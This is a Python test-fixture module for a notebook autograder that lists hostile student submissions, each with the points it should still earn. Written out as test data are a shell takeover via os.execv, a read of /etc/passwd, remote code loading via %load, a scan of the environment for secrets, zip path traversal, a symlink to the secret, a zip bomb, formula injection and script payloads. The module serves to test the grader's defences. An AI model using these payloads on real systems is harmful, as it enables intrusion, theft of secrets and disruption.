"""What hostile students hand in: kinds of code, of notebooks and of files, each with what it tries and what is right.

Each is laid on a copy with right answers. ``right`` names the questions that the student has then really answered: who
spoils a later answer of their own gets no points for it, and nobody gets any for a trick.
"""

import io
import json
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from gathering import packed
from heap_scan import SCAN

from workbook.assignments.variants import mark_of

ALL, NONE = "1234", ""
SECRET = "0123456789abcdef0123456789abcdef"
CLASSMATE = "20250001"
MARK_OF_CLASSMATE = mark_of(CLASSMATE, "07_trade", SECRET)
STOPPED, DIED = "was stopped after", "ended before its last cell"


@dataclass(frozen=True)
class Kind:
    """One kind of submission: what it ``tries``, and the questions whose points it must get, as digits.

    ``right`` is None if it must not be graded at all; then ``said`` is part of the reason, else of a remark. ``code``
    is run in a cell of its own before the answers; ``change`` is given the notebook, as plain data, and may change it
    or return another; ``files`` gives from the notebook as bytes the files that are handed in, by name.
    """

    tries: str
    right: str | None = ALL
    said: str = ""
    code: str = ""
    change: Callable | None = None
    files: Callable | None = None


def cell_of(notebook, role, question="q1"):
    """The cell of ``notebook`` with a ``role`` for a ``question``."""
    for cell in notebook["cells"]:
        about = cell["metadata"].get("workbook", {})
        if about.get("role") == role and about.get("question", question) == question:
            return cell
    raise KeyError(role)


def code_cell(text, **about):
    """A code cell with ``text``, which says ``about`` itself what it likes."""
    metadata = {"workbook": about} if about else {}
    return {"cell_type": "code", "execution_count": 1, "metadata": metadata, "outputs": [], "source": text}


# Notebooks


def points_of_its_own(notebook):
    for cell in notebook["cells"]:
        cell["metadata"].get("workbook", {}).update(points=1000, role_of="hidden", credit=1)
    notebook["metadata"]["workbook"] |= {"points": 1000, "status": "graded", "grade": 100}


def keys_of_its_own(notebook):
    cell_of(notebook, "answer")["source"] = "q1 = 1"
    key = "from workbook.assignments import Key\nKey(1, solution='{answer}', points=1000)"
    notebook["cells"].append(code_cell(key, role="hidden", question="q1", points=1000))
    notebook["cells"].insert(0, code_cell("VARIANTS = [{}]\nv = VARIANTS[0]", role="variants"))


def marks_exchanged(notebook):
    """The cells of q1 and q2 say that they are those of the other; the code in them is as it was."""
    first, second = (cell_of(notebook, "answer", name)["metadata"]["workbook"] for name in ("q1", "q2"))
    first["question"], second["question"] = "q2", "q1"


def sixty_answers_to_one_question(notebook):
    at = notebook["cells"].index(cell_of(notebook, "answer"))
    about = notebook["cells"][at]["metadata"]["workbook"]
    notebook["cells"][at:at] = [code_cell(f"q1 = {guess}", **about) for guess in range(60)]


def answers_guessed_in_one(notebook):
    cell_of(notebook, "answer")["source"] = f"q1 = {[each / 10 for each in range(1000)]}"


def prompts_of_another_variant(notebook):
    for cell in notebook["cells"]:
        for year in range(1990, 2025):
            if cell["cell_type"] == "markdown":
                cell["source"] = cell["source"].replace(f"**{year}**", f"**{year % 7 + 2001}**")


def answer(code, question="q1"):
    """The change that puts ``code`` in place of the right answer to a ``question``."""

    def change(notebook):
        cell_of(notebook, "answer", question)["source"] = code

    return change


def essay(text):
    """The change that puts ``text`` into the essay."""

    def change(notebook):
        cell_of(notebook, "essay", "e1")["source"] += f"\n\n{text}"

    return change


def about(**more):
    """The change that writes ``more`` into what the copy says of itself."""

    def change(notebook):
        notebook["metadata"]["workbook"] |= more

    return change


def nested(depth, inner="1"):
    """JSON text of ``depth`` lists in each other."""
    return "[" * depth + inner + "]" * depth


def deep_metadata(content):
    text = content.decode()
    return {"07_trade.ipynb": text.replace('"metadata": {', f'"metadata": {{"x": {nested(5000)}, ', 1).encode()}


def deep_metadata_that_can_be_read(content):
    text = content.decode()
    return {"07_trade.ipynb": text.replace('"metadata": {', f'"metadata": {{"x": {nested(600)}, ', 1).encode()}


def huge_numbers(content):
    number = "9" * 20_000
    return {"07_trade.ipynb": content.replace(b'"execution_count": 1', b'"execution_count": ' + number.encode())}


def many_cells(notebook):
    notebook["cells"] += [code_cell(f"x{number} = {number}") for number in range(600)]


def much_to_show(notebook):
    page = {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>alert(1)</script>" * 200_000}}
    cell_of(notebook, "answer")["outputs"] = [page]


def long_cell(notebook):
    cell_of(notebook, "answer")["source"] += "\n" + "x = 1\n" * 2_000


def long_line(notebook):
    cell_of(notebook, "answer")["source"] += "\nx = " + "1 + " * 30_000 + "1"


def other_letters(notebook):
    """Python reads ｑ１ as q1."""
    cell = cell_of(notebook, "answer")
    cell["source"] = cell["source"].replace("q1", "ｑ１")


def right_to_left(notebook):
    cell_of(notebook, "answer")["source"] += "\n# \u202e } \u2066 if done \u2069 \u2066 q1 = 0 \u2069"


def attached(notebook):
    cell = cell_of(notebook, "essay", "e1")
    cell["attachments"] = {"../../x.html": {"text/html": "<script>alert(1)</script>"}, "x": [[1]]}


def names_with_lines(notebook):
    notebook["metadata"]["title"] = "x\r\nSet-Cookie: a=b\x1b[2J"
    notebook["metadata"]["workbook"]["exercise\r\n"] = "=cmd|'/C calc'!A0"


# Files


def handed_in(receipt, answers=b"{}", **more):
    """What makes a hand-in archive with the bytes ``receipt`` and ``answers`` in place of those of wb.hand_in."""

    def files(content):
        inside = {"07_trade.ipynb": content, "receipt.json": receipt, "answers.json": answers} | more
        return {"07_trade.zip": packed(inside)}

    return files


def receipt(**more):
    """A receipt as JSON, with ``more`` in it."""
    return json.dumps({"exercise": "07_trade", "notebook": {"name": "07_trade.ipynb", "hash": "x"}, **more}).encode()


def receipt_with(text):
    """A receipt in which JSON ``text`` stands for all that is read of it."""
    fields = ("exercise", "student", "time", "notebook")
    return ("{" + ", ".join(f'"{name}": {text}' for name in fields) + "}").encode()


def with_a_shadow(name):
    """What hands in the notebook and, under ``name``, one that says nothing was done."""
    return lambda content: {"07_trade.ipynb": content, name: b'{"cells": [], "metadata": {}, "nbformat": 4}'}


def leads_out(content):
    names = ["../../../../tmp/hostile-was-here.ipynb", "/tmp/hostile-was-here", "C:\\hostile-was-here", "a/../../b"]
    return {"07_trade.zip": packed([("07_trade.ipynb", content), *((name, b"x") for name in names)])}


def a_link_to_the_secret(content):
    link = zipfile.ZipInfo("secret.ipynb")
    link.external_attr = 0o120777 << 16
    return {"07_trade.zip": packed([("07_trade.ipynb", content), (link, b"../../course-secret.txt")])}


def lies_about_its_size(content):
    archive = bytearray(packed({"07_trade.ipynb": content}))
    for signature, at in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        start = archive.index(signature) + at
        archive[start : start + 4] = struct.pack("<I", 5)
    return {"07_trade.zip": bytes(archive)}


def an_end_within_its_comment(content):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("07_trade.ipynb", content)
        out.comment = b"PK\5\6" + struct.pack("<4H2LH", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0)
    return {"07_trade.zip": archive.getvalue()}


def a_bomb_beside(content):
    return {"07_trade.ipynb": content, "bomb.zip": packed({"x.ipynb": bytes(30_000_000)})}


def a_thousand_folders(content):
    return {"07_trade.zip": packed([("a/" * 1000 + "x.txt", b"x"), ("07_trade.ipynb", content)])}


LINE = b'{"cell": 0, "answers": {}}\n'
GLUED = b'{"cell": 0, "answers": {"q1": '
TWICE = b'{"cell": 0, "answers": {"q1": 1}, "answers": {"q1": 2}}\n'
AS_SHELL = 'printf \'{"cell": 0, "answers": {"q1": 0}}\\n{"done": true}\\n\' >&3; sleep 77'

HOSTILE = {
    # The channel by which answers reach the grader
    "many lines": Kind(
        "fills the channel with lines that are none",
        said="passed over",
        code=f"import os\nos.write(3, {LINE!r} * 30000)",
    ),
    "half a line": Kind(
        "begins a line, to which the next answer is glued",
        said="passed over",
        code=f"import os\nos.write(3, {GLUED!r})",
    ),
    "names twice": Kind("sends JSON with a name twice", said="passed over", code=f"import os\nos.write(3, {TWICE!r})"),
    "another program": Kind(
        "becomes a shell that answers and ends the run",
        NONE,
        code=f"import os\nos.execv('/bin/sh', ['sh', '-c', {AS_SHELL!r}])",
    ),
    "a closed channel": Kind("closes the channel and goes on", NONE, DIED, code="import os\nos.close(3)"),
    "a turned channel": Kind("lets the channel lead to what is printed", NONE, DIED, code="import os\nos.dup2(1, 3)"),
    "a small pipe": Kind(
        "makes the channel as small as it gets, and never wait",
        code="import fcntl, os\nfcntl.fcntl(3, 1031, 4096)\nos.set_blocking(3, False)",
    ),
    "more names": Kind(
        "adds a variable to those that the run reads",
        NONE,
        "passed over",
        code="import gc\nq9 = 'x'\nfor each in gc.get_objects():\n"
        "  if type(each) is list and each == ['q1', 'q2', 'q3', 'q4']: each.append('q9')",
    ),
    "answers of the run": Kind(
        "writes what is no answer into the answers of the run itself",
        "123",
        DIED,
        change=answer(
            "import gc\nfor each in gc.get_objects():\n"
            "  if getattr(each, '__name__', '') == 'run_cells' and hasattr(each, 'gi_frame'):\n"
            "    each.gi_frame.f_locals['answers'].update(q1=[[[[[[1]]]]]], q9=object())\nq4 = 'a'",
            "q4",
        ),
    ),
    "the grader within": Kind(
        "imports the grader and asks for the key",
        "234",
        "There is no exercise",
        code="from workbook.assignments import open_exercise\nimport builtins\n"
        "builtins.KEY = open_exercise('07_trade').key(0)",
        change=answer("q1 = KEY['q1']['answer']"),
    ),
    "a worker within": Kind(
        "starts a worker of the grader of its own",
        code="import json, subprocess, sys\n"
        "limits = dict.fromkeys(('wall', 'cpu', 'memory', 'processes', 'open_files', "
        "'disk', 'files'), 9)\nsettings = json.dumps({'limits': limits, 'user': 0, 'confined': False, 'datasets': [], "
        "'scratch': '/scratch'})\n"
        "subprocess.run([sys.executable, '-c', 'print(1)', settings], timeout=5, capture_output=True)",
    ),
    # IPython
    "after each cell": Kind(
        "changes the answers after each cell, before they are read",
        "234",
        code="def change(result):\n  get_ipython().user_ns['q1'] = float('inf')\n"
        "get_ipython().events.register('post_run_cell', change)",
    ),
    "input transformers": Kind(
        "takes out the code of all cells that follow",
        NONE,
        code="get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    ),
    "syntax trees": Kind(
        "changes the syntax tree of each cell to one that cannot be",
        code="import ast\nclass Bad(ast.NodeTransformer):\n  def visit_Module(self, node): raise MemoryError\n"
        "get_ipython().ast_transformers.append(Bad())",
    ),
    "custom errors": Kind(
        "takes over what happens with errors",
        code="get_ipython().set_custom_exc((BaseException,), lambda *w: [][1])\n1 / 0",
        said="ZeroDivisionError",
    ),
    "a shell that lies": Kind(
        "gives the shell a space of names that has everything",
        NONE,
        code="class Every(dict):\n  def __contains__(self, name): return True\n"
        "  def __getitem__(self, name): return 32.5\n"
        "get_ipython().user_ns = Every(get_ipython().user_ns)",
    ),
    "no shell": Kind(
        "takes the shell away",
        code="from IPython.core.interactiveshell import InteractiveShell\nInteractiveShell.clear_instance()\n"
        "import builtins\nbuiltins.get_ipython = None",
    ),
    "no runner": Kind("breaks the shell's way to run a cell", NONE, code="get_ipython().run_cell_async = None"),
    "a real shell": Kind(
        "calls the shell command that the quiet shell hides",
        code="from IPython.core.interactiveshell import InteractiveShell\n"
        "InteractiveShell.system_piped(get_ipython(), 'cat /etc/passwd; id > found; touch /tmp/x /usr/x')",
    ),
    "magics that write": Kind(
        "writes a program and runs it",
        code="%env PATH=/nowhere\n%cd /\n%store trade\n%load https://example.org/x.py\n%alias_magic t timeit\n"
        "get_ipython().run_cell_magic('writefile', '/tmp/x.py', 'import os; os.chdir(\"/\")')\n%run /tmp/x.py",
    ),
    "forgets all": Kind("deletes all names with a magic", "4", "NameError", code="%reset -f"),
    "hostile displays": Kind(
        "shows something that ends the process where it is shown",
        code="import os\nclass Show:\n  def _ipython_display_(self): os._exit(1)\n"
        "  _repr_mimebundle_ = _repr_html_ = _ipython_display_\n"
        "  def __repr__(self): os._exit(1)\nfrom IPython.display import display\nShow()",
    ),
    "tasks that stay": Kind(
        "leaves tasks in the event loop, and closes it",
        code="import asyncio\nasync def stay():\n  while True: await asyncio.sleep(1)\n"
        "tasks = [asyncio.ensure_future(stay()) for _ in range(99)]\nawait asyncio.sleep(0)",
    ),
    # Python itself
    "an audit hook": Kind(
        "refuses everything that Python does",
        NONE,
        code="import sys\ndef no(event, values):\n"
        "  if event in ('compile', 'exec', 'open', 'import'): raise RuntimeError('no')\n"
        "sys.addaudithook(no)",
    ),
    "no imports": Kind("takes away importing", NONE, "TypeError", code="import builtins\nbuiltins.__import__ = None"),
    "a false module": Kind(
        "puts modules of its own in place of those of the run",
        code="import sys, types\nsys.modules['json'] = sys.modules['os'] = types.ModuleType('x')\n"
        "sys.modules['workbook.assignments.answers'] = types.ModuleType('answers')\n"
        "sys.path.insert(0, '.')\nopen('math.py', 'w').write('1 / 0')",
    ),
    "as_data everywhere": Kind(
        "replaces what reads answers in the module that calls it",
        NONE,
        code="import workbook.assignments.execution as e\n"
        "e.as_data = lambda value: {'columns': ['a'], 'rows': [[1, 2]]}",
        said="was not read",
    ),
    "settings of Python": Kind(
        "sets limits of Python to what nobody would",
        code="import gc, sys\nsys.set_int_max_str_digits(0)\nsys.setswitchinterval(1e-9)\ngc.set_threshold(1, 1, 1)\n"
        "sys.displayhook = sys.excepthook = sys.unraisablehook = None",
    ),
    "true is false": Kind(
        "overwrites small numbers in memory",
        NONE,
        DIED,
        code="import ctypes\nctypes.memset(id(True), 255, 16)\nctypes.memset(id(0), 255, 16)\n"
        "ctypes.memset(id(()), 255, 24)",
    ),
    "a full stack": Kind(
        "recurses until the stack is full",
        NONE,
        DIED,
        code="import sys\nsys.setrecursionlimit(10**9)\nclass Deep:\n"
        "  __getattr__ = lambda self, name: getattr(self, name)\nDeep().x",
    ),
    "no standard output": Kind(
        "takes away what the run flushes",
        code="import sys\nclass Out:\n  def flush(self): raise SystemExit\n  def write(self, text): raise SystemExit\n"
        "sys.stdout = Out()\nsys.stderr = None",
        said="SystemExit",
    ),
    "at a fork": Kind(
        "does something at each fork and at the end",
        code="import atexit, os\nos.register_at_fork(before=lambda: os._exit(1))\natexit.register(os.write, 3, b'{}')",
    ),
    # Signals, threads, processes
    "stops itself": Kind("stops its own process", code="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    "ends by the clock of Python": Kind(
        "lets Python end itself later",
        code="import faulthandler\nfaulthandler.dump_traceback_later(300, exit=True)",
    ),
    "less time": Kind(
        "takes its own time and files away",
        code="import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (4, 4))\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))",
    ),
    "signals all": Kind(
        "sends every process that it can name a signal",
        code="import os, signal\nfor number in [0, 1, *range(2, 400)]:\n"
        "  for sign in (signal.SIGSTOP, signal.SIGKILL):\n"
        "    try:\n      if number not in (0, 1, os.getpid()): os.kill(number, sign)\n    except OSError: pass",
    ),
    "children that answer": Kind(
        "leaves children that sleep and then write",
        code="import os, time\nfor _ in range(9):\n  if os.fork() == 0:\n    os.setsid()\n    time.sleep(77)\n"
        "    os.write(3, b'x')\n    os._exit(0)",
    ),
    "a thread that changes": Kind(
        "lets a thread change an answer all the time",
        "234",
        code="import threading\nspace = get_ipython().user_ns\ndef change():\n  while True: space['q1'] = object()\n"
        "threading.Thread(target=change, daemon=True).start()",
    ),
    "pipes without an end": Kind(
        "lets threads wait for what never comes",
        code="import os, threading\nos.mkfifo('x')\n"
        "for _ in range(9): threading.Thread(target=open, args=('x',)).start()",
    ),
    "asks": Kind("asks a person", code="input('Key? ')", said="Error"),
    # What an answer can be
    "a number without an end": Kind(
        "answers a number that fills the memory where it is written out",
        "234",
        change=answer("from decimal import Decimal\nq1 = Decimal('1e999999999')"),
    ),
    "a range": Kind("answers a list of 10¹² numbers", "234", change=answer("q1 = range(10**12)")),
    "itself": Kind("answers a list that holds itself", "234", change=answer("q1 = []\nq1.append(q1)")),
    "a table without an end": Kind(
        "answers a table whose columns never end",
        "234",
        change=answer(
            "import itertools\nimport pandas as pd\nclass Table(pd.DataFrame):\n"
            "  columns = property(lambda self: itertools.count())\n  __len__ = lambda self: 2\nq1 = Table()"
        ),
    ),
    "all numbers": Kind("answers every number there is", "234", change=answers_guessed_in_one),
    "equal to all": Kind(
        "answers letters that are equal to every letter",
        "123",
        change=answer(
            "class Any(str):\n  __eq__ = lambda s, o: True\n  __hash__ = lambda s: 1\n"
            "  __contains__ = lambda s, o: True\n"
            "q4 = {Any('x'), Any('y')}",
            "q4",
        ),
    ),
    # What others left
    "looks for others": Kind(
        "reads all memory, files and handles for what others left",
        "123",
        change=answer(f"{SCAN}\nq4 = sorted(found) or ['none']", "q4"),
    ),
    "looks around": Kind(
        "lists what others may have left in folders and the environment",
        "123",
        change=answer(
            "import os, tempfile\n"
            "q4 = [name for place in ('.', '/', '/tmp', '/scratch', '/dev/shm', '/proc', tempfile.gettempdir())"
            " for name in os.listdir(place) if name.startswith('zq')] + [each for each in os.environ if "
            "'SECRET' in each or 'TOKEN' in each]"
            " or ['none']",
            "q4",
        ),
    ),
    # The notebook
    "points of its own": Kind("writes points into its cells", change=points_of_its_own),
    "keys of its own": Kind("adds a key and variants of its own", "234", change=keys_of_its_own),
    "exchanged": Kind("exchanges the names of two cells", change=marks_exchanged),
    "sixty guesses": Kind("answers one question sixty times, the last rightly", change=sixty_answers_to_one_question),
    "other prompts": Kind("changes the years in its prompts", said="show", change=prompts_of_another_variant),
    "other letters": Kind("writes names in letters that look alike", change=other_letters),
    "right to left": Kind("hides code behind signs of direction", change=right_to_left),
    "codes in the essay": Kind(
        "imitates a marking sheet in its essay",
        change=essay(
            'code,e1\nABC123,"clear",strong,strong\n</textarea><script>alert(1)</script>\n\n=HYPERLINK("x")\n\n'
            "\t=1+1\n\n@SUM(1)\n\n+1\n\n![x](javascript:alert(1)) \x1b]0;x\x07 \u202etxet"
        ),
    ),
    "attached": Kind("attaches a page to its essay", change=attached),
    "names with lines": Kind("writes lines and formulas into names", change=names_with_lines),
    "a mark of a classmate": Kind(
        "carries the mark of a classmate's copy",
        ALL,
        f"was made for {CLASSMATE}",
        change=about(copy=MARK_OF_CLASSMATE),
        files=lambda content: {"07_trade.ipynb": content},
    ),
    "a loose mark": Kind(
        "hands in loosely what carries the mark of a classmate's copy",
        None,
        change=about(copy=MARK_OF_CLASSMATE),
        files=lambda content: {"/my 07_trade.ipynb": content},
    ),
    "a classmate's work": Kind(
        "hands in a later file in a classmate's name",
        None,
        "carries the mark of",
        change=about(student=CLASSMATE, copy=""),
        files=lambda content: {
            f"/{CLASSMATE} final.zip": packed(
                {
                    "07_trade.ipynb": content,
                    "receipt.json": receipt(student=CLASSMATE, time="2026-11-01T10:00:00+00:00"),
                }
            )
        },
    ),
    "a mark that is none": Kind(
        "carries a mark in other signs", said="another secret", change=about(copy="０１２３４５６７８９ａｂ")
    ),
    "many cells": Kind("has 600 cells more", change=many_cells),
    "much to show": Kind("stores a page of 5 MB", change=much_to_show),
    "a long cell": Kind("has a cell of 2,000 lines", change=long_cell),
    "a long line": Kind("has a line that no parser likes", "234", change=long_line),
    # Files
    "deep metadata": Kind("has metadata of 5,000 lists in each other", files=deep_metadata),
    "deep metadata that can be read": Kind(
        "has metadata of 600 lists in each other", files=deep_metadata_that_can_be_read
    ),
    "huge numbers": Kind("has numbers of 20,000 digits", files=huge_numbers),
    "a deep receipt": Kind("has a receipt whose time is 900 lists", files=handed_in(receipt_with(nested(900)))),
    "a receipt of odd values": Kind(
        "has a receipt whose fields are an object", files=handed_in(receipt_with('{"name": {"a": [1e999, NaN]}}'))
    ),
    "a time that is none": Kind(
        "has a time that no calendar has", files=handed_in(receipt(time="9999-12-31 23:59:59 -23:59"))
    ),
    "answers of its own": Kind(
        "has better answers beside its notebook",
        files=handed_in(receipt(), b'{"q1": ' + nested(900).encode() + b', "q2": NaN}'),
    ),
    "a shadow": Kind(
        "hands in a blank notebook beside it, with a later name", files=with_a_shadow("zz.ipynb"), said=""
    ),
    "leads out": Kind("has entries whose names lead out of the folder", files=leads_out),
    "a link to the secret": Kind("has a link to the secret among its entries", files=a_link_to_the_secret),
    "lies about its size": Kind("has an entry that is larger than it says", None, "damaged", files=lies_about_its_size),
    "an end within its comment": Kind("has an archive with two ends", None, files=an_end_within_its_comment),
    "a bomb beside": Kind("hands in a bomb beside its notebook", files=a_bomb_beside),
    "a thousand folders": Kind("has a thousand folders in each other", files=a_thousand_folders),
}
